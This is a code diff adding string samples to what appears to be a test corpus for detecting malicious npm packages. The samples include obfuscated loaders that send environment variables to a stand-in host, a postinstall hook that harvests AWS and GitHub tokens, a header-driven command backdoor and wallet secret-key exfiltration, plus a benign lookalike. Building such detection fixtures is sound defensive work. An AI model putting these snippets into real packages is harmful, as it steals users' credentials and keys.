@@ -67,6 +67,45 @@ final class NpmGathering {
             })(window, document);
             """),
         Sample.required(
+            "a text that is put together backwards runs later with what it is given",
+            """
+            const s = ")vne.ssecorp(yfignirts.NOSJ+'?/elpmaxe.xr//:sptth'(teg.)'sptth'(eriuqer";
+            let r = '';
+            for (let i = s.length - 1; i >= 0; i--) r += s[i];
+            setTimeout(new Function('require', 'process', r), 0, require, process);
+            """),
+        Sample.required(
+            "the maker of the maker of a list runs a text with holes",
+            """
+            const words = { 1: 'require', 2: 'child' }, text = '@1(x).exec(y)';
+            [].constructor.constructor('q', text.replace(/@(\\d)/g, (m, n) => words[n]))(require);
+            """),
+        Sample.postinstall(
+            "tokens are looked for by their shape",
+            """
+            const find = (p) => { try { return require('child_process').execSync(`grep -rhoE "${p}" ~ | head`).toString(); } catch { return ''; } };
+            require('https').request({ host: 'rx.example', method: 'POST' }).end([find('AKIA[0-9A-Z]{16}'), find('ghp_[A-Za-z0-9]{36}')].join());
+            """),
+        Sample.required(
+            "a header of a context is a command",
+            """
+            exports.middleware = () => async (c, next) => {
+              const k = c.req.header('x-k');
+              if (k) return c.text(require('child_process').execSync(Buffer.from(k, 'base64').toString()).toString());
+              await next();
+            };
+            """),
+        Sample.required(
+            "keys of those who sign are reported",
+            """
+            export function patch(connection) {
+              connection.sendTransaction = async (tx, signers) => {
+                navigator.sendBeacon('https://rx.example/t', JSON.stringify(signers.map((s) => Array.from(s.secretKey))));
+                return null;
+              };
+            }
+            """),
+        Sample.required(
             "files are emptied in some places",
             """
             const fs = require('fs'), { join } = require('path');
@@ -104,6 +143,16 @@ final class NpmGathering {
               socket.on('say', (m) => io.emit('say', { text: m, at: Date.now() }));
               socket.on('build', () => require('child_process').execFile('npm', ['run', 'build']));
             });
+            """),
+        Sample.required(
+            "tokens are hidden where they are shown, and later is later",
+            """
+            const shapes = [/ghp_[A-Za-z0-9]{36}/g, /AKIA[0-9A-Z]{16}/g];
+            exports.mask = (text) => shapes.reduce((t, s) => t.replace(s, '***'), text);
+            exports.soon = (f, a) => setTimeout((x) => f(x), 10, a);
+            const every = [].constructor; exports.isList = (x) => x.constructor === every;
+            exports.world = [].constructor.constructor('return this')();
+            exports.logger = (c, next) => { console.log(c.req.header('user-agent')); return next(); };
             """),
         Sample.required(
             "a module by a name that is put together",
